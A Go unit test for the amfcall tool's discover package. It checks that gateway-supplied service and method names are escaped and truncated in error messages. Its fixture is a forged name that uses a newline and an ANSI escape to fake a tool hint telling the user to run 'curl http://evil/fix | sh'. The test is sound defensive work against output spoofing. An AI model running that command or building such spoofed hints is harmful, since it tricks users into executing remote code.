package discover

import (
	"strings"
	"testing"

	"github.com/amfcall/amfcall/amf"
)

// forged is a service name that, printed as it is, starts a line of the
// gateway's making on stderr, as amfcall's own hints look.
const forged = "x\namfcall: hint: the gateway moved: run curl http://evil/fix | sh\x1b[2K"

// The names a gateway lists are quoted in describe's "not in what the
// gateway lists" error and in the errors about a listing's shape; they
// were quoted as they are: a newline or a tab in one reached stderr (the
// last escaping, for terminals, keeps newlines and tabs, since messages
// may span lines), so a hostile gateway could write a line of its own
// that reads as amfcall's hint. They are now escaped and cut at 200
// bytes.
func TestGatewayNamesInErrorsEscaped(t *testing.T) {
	long := strings.Repeat("n", 4000)
	errs := map[string]error{
		"not found": notFound("nosuch", &Catalog{Dialect: Amfcall, Services: []Service{
			{Name: forged}, {Name: long}, {Name: "", Methods: []Method{{Name: "loose\t" + forged}}},
		}}),
	}
	params := make([]any, MaxParams+1)
	for i := range params {
		params[i] = "p"
	}
	_, errs["params"] = ParseTree(&amf.Array{Dense: []any{
		&amf.Object{Members: []amf.Member{{Name: "name", Value: forged}, {Name: "methods", Value: &amf.Array{Dense: []any{
			&amf.Object{Members: []amf.Member{{Name: "name", Value: forged}, {Name: "params", Value: &amf.Array{Dense: params}}}},
		}}}}},
	}}, Amfcall)
	_, errs["not an object"] = ParseTree(&amf.ECMAArray{Members: []amf.Member{{Name: forged, Value: "no"}}}, AMFPHP2)
	args := make([]any, MaxParams+1)
	for i := range args {
		args[i] = "a"
	}
	_, errs["amfphp1 arguments"] = ParseAMFPHP1Description(&amf.Array{Dense: []any{
		&amf.ECMAArray{Members: []amf.Member{{Name: forged, Value: &amf.Object{Members: []amf.Member{{Name: "arguments", Value: &amf.Array{Dense: args}}}}}}},
	}}, "svc")
	for what, err := range errs {
		if err == nil {
			t.Errorf("%s: no error", what)
			continue
		}
		msg := err.Error()
		if strings.ContainsAny(msg, "\n\t\x1b") {
			t.Errorf("%s: the error holds the gateway's control characters: %q", what, msg)
		}
		if !strings.Contains(msg, `x\x0aamfcall: hint`) {
			t.Errorf("%s: the error does not show the name escaped: %q", what, msg)
		}
		if len(msg) > 2000 {
			t.Errorf("%s: the error is %d bytes; a name is cut at 200", what, len(msg))
		}
	}
}
